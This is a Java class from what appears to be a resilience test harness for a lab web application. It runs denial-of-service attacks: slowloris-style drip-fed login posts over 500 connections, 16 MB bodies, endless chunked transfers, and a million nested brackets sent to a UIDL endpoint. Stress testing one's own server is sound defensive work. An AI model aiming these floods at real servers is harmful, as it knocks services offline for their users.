package descentlab.siege;

import descentlab.load.Incidents;
import descentlab.load.Page;

/** Bodies that are too large, or never come to their end, or nest without end. */
final class Bodies implements Attack {

    private static final int SLOW = 500;
    private static final int MB = 1 << 20;

    @Override
    public String name() {
        return "big and slow bodies";
    }

    @Override
    public void wage(Front front) throws Exception {
        front.together(once -> slow(front), once -> big(front));
    }

    private static void slow(Front front) throws Exception {
        byte[] head = Raw.head("POST /login HTTP/1.1", "Content-Type: application/x-www-form-urlencoded", "Content-Length: 100000");
        byte[] drip = Raw.bytes("a");
        new Crowd(front, "slow bodies", SLOW, 200, new Crowd.Way() {
            @Override
            public byte[] greeting(int number) {
                return head;
            }

            @Override
            public byte[] drip(int number) {
                return drip;
            }
        }).hold();
    }

    private static void big(Front front) throws Exception {
        Page page = new Page(front.site(), new Incidents(), (message, nanoTime) -> {});
        page.load("lab/surface");
        String cookie = "Cookie: " + page.cookies();
        byte[] megabyte = new byte[MB];
        byte[] nested = Raw.bytes("[".repeat(MB - 1024));
        byte[] chunk = Raw.bytes("100000\r\n" + "x".repeat(MB) + "\r\n");
        byte[] uidl = Raw.head("POST /?v-r=uidl&v-uiId=0 HTTP/1.1", cookie, "Content-Length: " + nested.length);
        front.keepDoing(2, 6, number -> front.got().add(switch (number % 3) {
            case 0 -> "16 MB: " + Raw.exchange(front, Raw.head("POST /login HTTP/1.1", "Content-Length: " + 16 * MB),
                    megabyte, megabyte, megabyte, megabyte);
            case 1 -> "chunks without end: " + Raw.exchange(front,
                    Raw.head("POST /login HTTP/1.1", "Transfer-Encoding: chunked"), chunk, chunk, chunk, chunk);
            default -> "a million brackets to a page: " + Raw.exchange(front, uidl, nested);
        }));
    }
}
